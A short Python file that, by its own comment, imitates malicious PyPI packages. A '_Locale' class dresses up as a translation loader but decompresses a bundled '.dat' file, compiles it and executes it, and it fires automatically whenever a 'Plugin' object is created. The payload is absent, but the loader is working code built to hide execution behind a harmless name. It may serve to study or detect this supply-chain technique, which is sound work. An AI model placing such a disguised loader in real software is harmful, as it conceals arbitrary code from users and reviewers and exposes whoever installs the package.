# Inspired by PyPI packages that ship their real payload as a compressed ".dat"/locale resource (e.g. 2023 Phylum write-ups) and load it through pkgutil.get_data before compile()+exec.
import pkgutil
import zlib


class _Locale:
    def __init__(self, lang: str = "en"):
        self.lang = lang

    def _raw(self) -> bytes:
        return pkgutil.get_data(__package__, f"data/{self.lang}.dat")

    def install(self):
        src = zlib.decompress(self._raw()).decode("utf-8")
        code = compile(src, f"<locale-{self.lang}>", "exec")
        exec(code, {"__name__": __name__})


def translations():
    _Locale().install()


class Plugin:
    def __init__(self):
        translations()
